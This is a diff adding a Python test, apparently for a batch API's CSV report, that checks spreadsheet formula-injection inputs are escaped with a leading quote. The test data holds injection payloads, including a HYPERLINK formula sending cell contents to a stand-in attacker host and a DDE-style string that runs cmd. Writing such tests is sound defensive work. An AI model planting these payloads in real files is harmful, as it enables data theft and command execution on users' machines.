@@ -94,6 +94,18 @@ def test_the_table_has_a_line_for_each_picture_and_each_job_without(api: Api, ni
     ]
 
 
+def test_no_cell_is_a_formula_to_a_spreadsheet(api: Api) -> None:
+    sly = ['=HYPERLINK("http://evil.example?"&A1,"x")', "@SUM(1+1)*cmd|' /C calc'!A0", "+1+1", "-1", "\uff1d1+1", " =1"]
+    plain = ["a cat, 1 + 1 = 2", "1-1", "'quoted'"]
+    body = "\n".join(json.dumps({"prompt": prompt, "custom_id": prompt}) for prompt in sly + plain)
+    headers = {"Content-Type": "application/x-ndjson"}
+    batch = api.post("/v1/batches", content=body, headers=headers).json()
+    assert api.post(f"/v1/batches/{batch['id']}/cancel").status_code == 200
+    told = list(csv.DictReader(io.StringIO(report(api, batch, "csv"))))
+    for column in ("prompt", "custom_id"):
+        assert sorted(row[column] for row in told) == sorted([f"'{text}" for text in sly] + plain)
+
+
 def test_a_batch_that_is_not_over_is_told_as_far_as_it_is(api: Api) -> None:
     batch = api.post("/v1/batches", json=MATRIX).json()
     found = Elements(report(api, batch, "html"))
